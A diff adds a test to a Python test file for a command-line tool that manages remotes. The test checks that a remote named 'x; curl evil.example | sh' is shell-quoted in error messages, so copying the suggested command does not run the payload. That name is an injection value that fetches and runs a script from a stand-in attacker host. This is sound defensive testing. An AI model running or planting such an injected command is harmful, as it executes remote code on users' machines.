@@ -90,6 +90,12 @@ def test_a_registry_that_the_repository_chose_gets_no_token(
     assert evil.asked == []
 
 
+def test_a_remotes_name_is_no_command_to_copy(shell: Shell, evil: Scripted) -> None:
+    given(shell, "x; curl evil.example | sh", "s3://bucket/x", endpoint=evil.url)
+    assert "`mvc remote trust 'x; curl evil.example | sh'`" in shell("fetch", "x; curl evil.example | sh").err
+    assert "'x; curl evil.example | sh'" in shell("remote", "set-url", "x; curl evil.example | sh", "s3://bucket/y").err
+
+
 # --- ways to approve
 
 
